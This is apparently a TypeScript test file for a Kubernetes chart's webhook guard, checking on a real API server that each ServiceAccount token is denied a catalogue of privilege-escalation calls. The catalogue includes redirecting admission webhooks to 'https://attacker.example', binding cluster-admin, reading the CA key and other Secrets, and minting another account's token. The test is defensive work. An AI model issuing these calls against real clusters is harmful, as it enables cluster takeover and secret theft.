import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { t } from 'tap';
import { parse, stringify } from 'yaml';

import { type ApiCall, ApiError, type ApiServer, connect } from '../../src/kube/api.ts';
import { BASE_VETH } from '../support/config-maps.ts';
import { apply, render } from './chart.ts';
import type { ControlPlane } from './controlplane/control-plane.ts';
import { startControlPlane } from './controlplane/start.ts';
import { configurationPath } from './webhooks.ts';

/**
 * What can be done with the token of each ServiceAccount of the chart, on a real API server: by asking
 * it, and by trying what made one of them cluster-admin once.
 */

const CORE = '/api/v1';
const SECRETS = `${CORE}/namespaces/kube-system/secrets`;
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const REGISTRATIONS = '/apis/admissionregistration.k8s.io/v1';
const APPS = '/apis/apps/v1/namespaces/kube-system';
const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';

const KINDS = ['validating', 'mutating'] as const;
const pod = { spec: { containers: [{ name: 'c', image: 'i' }] } };
const metadata = { name: 'mine' };
const toAttacker = {
  clientConfig: { url: 'https://attacker.example', caBundle: '' },
  name: 'if-unreachable.delete-validatingwebhookconfiguration.eni-config-guard',
};

/** Ways to more rights than one has, or to what others hold. */
const WAYS: Readonly<Record<string, ApiCall>> = {
  ...Object.fromEntries(
    KINDS.flatMap((kind): [string, ApiCall][] => {
      const path = configurationPath(kind);
      const collection = path.replace(/\/[^/]*$/, '');
      const contentType = MERGE;
      return [
        [`have the ${kind} webhook ask an attacker`, patch(path, { webhooks: [toAttacker] })],
        [`delete the ${kind} webhook`, { method: 'DELETE', path }],
        [`make another ${kind} webhook`, { method: 'POST', path: collection, body: { metadata } }],
        [
          `patch another ${kind} webhook`,
          { method: 'PATCH', path: `${collection}/other`, contentType, body: {} },
        ],
      ];
    }),
  ),
  'make a bootstrap token': {
    method: 'POST',
    path: SECRETS,
    body: { metadata: { name: 'bootstrap-token-abcdef' }, type: 'bootstrap.kubernetes.io/token' },
  },
  'make a Secret by applying it': {
    method: 'PATCH',
    path: `${SECRETS}/sa-token`,
    query: { fieldManager: 'x', force: 'true' },
    contentType: APPLY,
    body: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'sa-token' } },
  },
  'list Secrets': { method: 'GET', path: SECRETS },
  'list all Secrets': { method: 'GET', path: `${CORE}/secrets` },
  'read another Secret': { method: 'GET', path: `${SECRETS}/theirs` },
  'read the key of the CA': { method: 'GET', path: `${SECRETS}/eni-config-guard-ca` },
  'write the key of the CA': patch(`${SECRETS}/eni-config-guard-ca`, {}),
  'write the serving Secret': patch(`${SECRETS}/eni-config-guard-tls`, {}),
  'replace the serving Secret': {
    method: 'PUT',
    path: `${SECRETS}/eni-config-guard-tls`,
    body: { metadata: { name: 'eni-config-guard-tls' } },
  },
  'delete the serving Secret': { method: 'DELETE', path: `${SECRETS}/eni-config-guard-tls` },
  'bind a role': {
    method: 'POST',
    path: `${RBAC}/clusterrolebindings`,
    body: {
      metadata,
      roleRef: {
        apiGroup: 'rbac.authorization.k8s.io',
        kind: 'ClusterRole',
        name: 'cluster-admin',
      },
    },
  },
  'widen its own role': patch(`${RBAC}/clusterroles/eni-config-guard`, {}),
  'have a token of another account': {
    method: 'POST',
    path: `${CORE}/namespaces/kube-system/serviceaccounts/eni-config-guard-trust/token`,
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  },
  'run a pod': {
    method: 'POST',
    path: `${CORE}/namespaces/kube-system/pods`,
    body: { metadata, ...pod },
  },
  'change what the guard runs': patch(`${APPS}/deployments/eni-config-guard`, {}),
  'change what Terway runs': patch(`${APPS}/daemonsets/terway-eniip`, {}),
  'reach a kubelet': { method: 'GET', path: `${CORE}/nodes/any/proxy/pods` },
  'change eni-config': patch(`${CORE}/namespaces/kube-system/configmaps/eni-config`, {}),
  'change its configuration': patch(
    `${CORE}/namespaces/kube-system/configmaps/eni-config-guard`,
    {},
  ),
  'take the floor away': {
    method: 'DELETE',
    path: `${REGISTRATIONS}/validatingadmissionpolicybindings/eni-config-guard`,
  },
  'ask for a client certificate': {
    method: 'POST',
    path: '/apis/certificates.k8s.io/v1/certificatesigningrequests',
    body: { metadata },
  },
};

/** What the one that keeps the trust must be able to do. */
const OPEN_TO_TRUST: readonly string[] = [
  'have the validating webhook ask an attacker',
  'have the mutating webhook ask an attacker',
  'read the key of the CA',
  'write the key of the CA',
  'write the serving Secret',
];

t.test('with the token of', async (t) => {
  const plane = await startControlPlane();
  t.teardown(() => plane.stop());
  await plane.raw('POST', `${CORE}/namespaces/kube-system/configmaps`, {
    metadata: { name: 'eni-config' },
    data: BASE_VETH,
  });
  const objects = await render(plane, {}, { flags: ['--no-hooks'] });
  await apply(plane, objects);
  await plane.raw('POST', SECRETS, { metadata: { name: 'theirs' } });

  await t.test('the guard nothing leads to more rights', async (t) => {
    const { api, canI } = await tokenOf(plane, 'eni-config-guard');
    for (const [way, call] of Object.entries(WAYS)) t.equal(await outcome(api, call), 403, way);
    const serving = { method: 'GET', path: `${SECRETS}/eni-config-guard-tls` } as const;
    t.equal(await outcome(api, serving), 200, 'and it can read what it serves');
    t.same(await canI(), [
      'configmaps [eni-config] [get list watch]',
      'configmaps [kube-proxy-worker] [list watch]',
      'configmaps [kube-proxy] [list watch]',
      'controllerrevisions.apps [] [list]',
      'daemonsets.apps [eni-config-guard-node-probe] [list]',
      'daemonsets.apps [terway-eni] [list watch]',
      'daemonsets.apps [terway-eniip] [list watch]',
      'daemonsets.apps [terway] [list watch]',
      'events [] [create patch]',
      'mutatingwebhookconfigurations.admissionregistration.k8s.io [eni-config-guard] [get]',
      'nodes [] [list]',
      'pods [] [list]',
      'secrets [eni-config-guard-history] [get update]',
      'secrets [eni-config-guard-tls] [get]',
      'subjectaccessreviews.authorization.k8s.io [] [create]',
      'validatingwebhookconfigurations.admissionregistration.k8s.io [eni-config-guard] [get]',
    ]);
  });

  await t.test(
    'what keeps the trust there is what docs/security.md says, and no more',
    async (t) => {
      const { api, canI } = await tokenOf(plane, 'eni-config-guard-trust');
      for (const [way, call] of Object.entries(WAYS)) {
        const isOpen = OPEN_TO_TRUST.includes(way);
        const status = await outcome(api, call);
        t.equal(status === 403, !isOpen, `${way}: ${status}`);
      }
      t.same(await canI(), [
        'mutatingwebhookconfigurations.admissionregistration.k8s.io [eni-config-guard] [get patch]',
        'secrets [eni-config-guard-ca] [get patch]',
        'secrets [eni-config-guard-tls] [get patch]',
        'validatingwebhookconfigurations.admissionregistration.k8s.io [eni-config-guard] [get patch]',
      ]);
    },
  );
});

function patch(path: string, body: object): ApiCall {
  return { method: 'PATCH', path, contentType: MERGE, body };
}

/** The HTTP status of a call. */
async function outcome(api: ApiServer, call: ApiCall): Promise<number | undefined> {
  try {
    await api.call(call);
    return 200;
  } catch (error) {
    if (error instanceof ApiError) return error.status;
    throw error;
  }
}

/** Rights that every account has: to ask about itself, and to read what it may trust. */
const OF_EVERY_ACCOUNT = /^self|^clustertrustbundles|^\[|^$/;

/** The API server as an account reaches it with a fresh token, and what `auth can-i` lists for it. */
async function tokenOf(plane: ControlPlane, account: string) {
  const { stdout: token } = await plane.kubectl(['create', 'token', account, '-n', 'kube-system']);
  const config = parse(await readFile(plane.kubeconfig, 'utf8')) as { users: { user: unknown }[] };
  for (const entry of config.users) entry.user = { token: token.trim() };
  const kubeconfig = join(plane.dir, `${account}.kubeconfig`);
  await writeFile(kubeconfig, stringify(config), { mode: 0o600 });
  const canI = async () => {
    const list = ['auth', 'can-i', '--list', '--no-headers', '-n', 'kube-system'];
    const { stdout } = await plane.kubectl(list, { kubeconfig });
    return stdout
      .split('\n')
      .map((line) =>
        line
          .trim()
          .replace(/ +\[\] +/, ' ')
          .replace(/ {2,}/g, ' '),
      )
      .filter((line) => !OF_EVERY_ACCOUNT.test(line))
      .sort();
  };
  return { api: connect({ kubeconfig }), canI };
}
